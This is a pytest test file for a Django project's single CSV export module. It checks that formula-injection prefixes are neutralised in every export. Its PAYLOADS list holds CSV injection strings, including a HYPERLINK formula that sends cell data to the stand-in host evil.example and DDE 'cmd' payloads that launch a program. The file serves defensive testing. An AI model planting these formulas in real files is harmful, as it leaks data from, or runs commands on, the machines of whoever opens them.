"""Formula injection (issue 20, §1): one CSV writer, ``core.csv_export``, for every export.

Unit tests of the neutralisation, then every export of the project fed each dangerous prefix end to
end (in the header, user names, display names, e-mails, answers, titles), its CSV parsed, and no
cell may start a formula. The exports are discovered: each is a ``CsvExport`` registered in
``core.csv_export.EXPORTS`` and must have a driver here, and no module but ``core/csv_export.py``
writes CSV (a source scan), so a new export cannot slip past this file."""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import get_resolver, reverse

from campaigns.services import response_submit
from core.csv_export import EXPORTS, CsvExport, csv_lines, neutralise
from notifications.services import notification_confirm, notification_mark_viewed
from tests import factories
from tests.campaigns.factories import CampaignFactory, every_kind_questionnaire

ROOT = Path(__file__).resolve().parents[2]

# OWASP, "CSV Injection": a cell starting with one of these is run as a formula. Written out here
# rather than imported, so the test does not trust the module it tests.
OWASP_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


# --- the neutralisation -------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_dangerous_prefix_is_quoted(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("prefix", OWASP_PREFIXES)
def test_the_prefix_alone_is_quoted(prefix):
    assert neutralise(prefix) == "'" + prefix


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Maria Silva", "Maria Silva"),
        ("maria@example.com", "maria@example.com"),
        ("a=b", "a=b"),  # a formula character after the first is harmless
        ("'=already", "'=already"),
        (" x", " x"),
        ("", ""),
        (None, ""),
        (10, "10"),
        (Decimal("2.5"), "2.5"),
        ("2026-12-06 10:00", "2026-12-06 10:00"),
    ],
)
def test_safe_values_are_written_as_they_are(value, cell):
    assert neutralise(value) == cell


@pytest.mark.parametrize(("value", "cell"), [(-5, "'-5"), ("-5", "'-5"), (Decimal("-0.5"), "'-0.5")])
def test_negative_numbers_are_quoted_too_the_rule_is_uniform(value, cell):
    assert neutralise(value) == cell


def test_csv_lines_neutralise_every_cell_of_every_row_header_included():
    rows = [["=head", "ok"], ["@x", 1, None], ["-1", "\tx"]]
    parsed = list(csv.reader(io.StringIO("".join(csv_lines(rows)), newline="")))
    assert parsed == [["'=head", "ok"], ["'@x", "1", ""], ["'-1", "'\tx"]]


def test_an_export_streams_utf8_with_a_bom_as_an_attachment():
    export = CsvExport("tests.probe")
    try:
        reply = export.response([["a", "=b"]], filename="probe.csv")
    finally:
        del EXPORTS["tests.probe"]
    assert reply.streaming
    assert reply["Content-Type"] == "text/csv; charset=utf-8"
    assert reply["Content-Disposition"] == 'attachment; filename="probe.csv"'
    assert b"".join(reply.streaming_content).decode("utf-8") == "\ufeffa,'=b\r\n"


def test_an_export_name_is_declared_once():
    CsvExport("tests.twice")
    try:
        with pytest.raises(ValueError, match="declared twice"):
            CsvExport("tests.twice")
    finally:
        del EXPORTS["tests.twice"]


# --- every export, end to end ---------------------------------------------------------------------


def _hostile_user(payload: str):
    """A user whose user name, names and e-mail all carry ``payload``."""
    return factories.UserFactory(username=payload, first_name=payload, last_name=payload, email=payload)


def campaign_results(client, payload: str):
    """A campaign that shows who answered, a question titled with the payload, a respondent named
    with it, answers made of it (and a negative number)."""
    questionnaire, q = every_kind_questionnaire()
    q["short"].text = payload
    q["short"].save()
    campaign = CampaignFactory(questionnaire=questionnaire, anonymous=False)
    assert campaign.shows_who
    response_submit(
        campaign=campaign,
        user=_hostile_user(payload),
        answers={
            q["rating"].pk: 5,
            q["yes_no"].pk: "yes",
            q["short"].pk: payload,
            q["long"].pk: payload,
            q["number"].pk: Decimal("-5"),
        },
    )
    return client.get(reverse("campaigns:results-csv", kwargs={"key": campaign.key}))


def notification_readers(client, payload: str):
    """A notification titled with the payload, read and confirmed by a user named with it."""
    notification = factories.make_notification(title=payload, requires_confirmation=True)
    reader = _hostile_user(payload)
    notification_mark_viewed(notification=notification, user=reader)
    notification_confirm(notification=notification, user=reader)
    return client.get(reverse("admin:notifications_notificationreceipt_export"))


def knowledge_report(client, payload: str):
    """A service named with the payload with a deflection, and searches of it that found nothing."""
    from knowledge.models import Deflection, SearchLog

    service = factories.ServiceFactory(name=payload)
    Deflection.objects.create(service=service, article=factories.ArticleFactory(title=payload))
    SearchLog.objects.create(term=payload, results=0)
    return client.get(reverse("admin:knowledge_searchlog_report_csv"))


# One driver per export of core.csv_export.EXPORTS: (client, payload) -> the export's response.
DRIVERS: dict[str, Callable] = {
    "campaigns.results": campaign_results,
    "notifications.readers": notification_readers,
    "knowledge.report": knowledge_report,
}


def test_every_export_of_the_project_has_a_driver_here():
    assert get_resolver().url_patterns  # imports every URLconf and so every view module and admin
    assert set(EXPORTS) == set(DRIVERS), "a new CSV export needs a driver in DRIVERS"


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize("export", DRIVERS)
def test_no_cell_of_any_export_starts_a_formula(client, admin_user, export, payload):
    client.force_login(admin_user)
    reply = DRIVERS[export](client, payload)
    assert reply.status_code == 200
    assert reply["Content-Type"].startswith("text/csv")
    body = b"".join(reply.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) >= 2
    cells = [cell for row in rows for cell in row]
    assert "'" + payload in cells  # the payload went through (the user name is written as is)
    dangerous = [cell for cell in cells if cell.startswith(OWASP_PREFIXES)]
    assert dangerous == []


# --- no CSV written anywhere else ---------------------------------------------------------------------

WRITES_CSV = re.compile(r"^\s*(import csv\b|from csv import)|text/csv|csv\.(writer|DictWriter)", re.M)
ALLOWED = {
    "core/csv_export.py": "the one writer",
    "core/uploads.py": "'text/csv' is a type an uploaded file may have, not an export",
}
NOT_SOURCE = {".venv", ".git", "tests", "var", "node_modules", "static", "locale", "docs", "media"}


def test_no_module_but_the_one_writer_writes_csv():
    offenders = []
    for folder, dirs, files in os.walk(ROOT):
        dirs[:] = [d for d in dirs if d not in NOT_SOURCE and not d.startswith(".")]
        for name in files:
            if not name.endswith(".py"):
                continue
            path = Path(folder, name)
            relative = path.relative_to(ROOT).as_posix()
            if relative not in ALLOWED and WRITES_CSV.search(path.read_text(encoding="utf-8")):
                offenders.append(relative)
    assert offenders == [], "write CSV through core.csv_export.CsvExport"
